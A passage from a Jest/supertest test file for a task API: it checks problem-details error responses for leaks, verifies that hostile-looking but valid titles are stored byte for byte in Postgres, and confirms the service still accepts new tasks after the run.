      expect(res.headers['x-request-id']).toBe(requestId);
      expect(res.body).toEqual(
        expect.objectContaining({
          type: expect.stringMatching(/^\/problems\/[a-z-]+$/),
          title: expect.any(String),
          status: row.status,
          detail: expect.any(String),
          requestId,
        }),
      );
      expect(res.text).not.toMatch(LEAK);
      if (row.fields) {
        expect(res.body.errors).toEqual(expect.arrayContaining(row.fields.map((field) => expect.objectContaining({ field, message: expect.any(String) }))));
      }
      row.also?.(res);
    });
  });

  describe('valid however hostile they look: created and stored byte for byte', () => {
    it.each(nastyButValid)('$name → 201', async (row) => {
      const before = await counts();

      const res = await request(api.getHttpServer())
        .post(TASKS)
        .set('Content-Type', 'application/json')
        .send(typeof row.body === 'string' ? row.body : JSON.stringify(row.body));

      expect(res.status).toBe(201);
      expect(res.body.title).toBe(row.title);
      const { rows } = await suite.sql.query<{ title: Buffer; description: Buffer | null }>(
        "SELECT convert_to(title, 'UTF8') AS title, convert_to(description, 'UTF8') AS description FROM tasks WHERE id = $1",
        [res.body.id],
      );
      expect(rows).toHaveLength(1);
      expect(rows[0].title.toString('hex')).toBe(Buffer.from(row.title, 'utf8').toString('hex'));
      if (row.description !== undefined) expect(rows[0].description?.toString('hex')).toBe(Buffer.from(row.description, 'utf8').toString('hex'));
      const fetched = await request(api.getHttpServer()).get(`${TASKS}/${res.body.id}`).expect(200);
      expect(fetched.body.title).toBe(row.title);
      // One task and its outbox row, and the tables are all still there.
      expect(await counts()).toEqual({ ...before, tasks: before.tasks + 1, outbox: before.outbox + 1 });
    });
  });

  it('still serves after the whole catalogue: a valid POST /api/v1/tasks answers 201', async () => {
    const res = await request(api.getHttpServer())
      .post(TASKS)
      .send({ title: 'still here', type: 'sleep', payload: { ms: 10 } })
      .expect(201);
    expect(res.headers.location).toBe(`${TASKS}/${res.body.id}`);
    await request(api.getHttpServer()).get(`${TASKS}/${res.body.id}`).expect(200);
  });
});
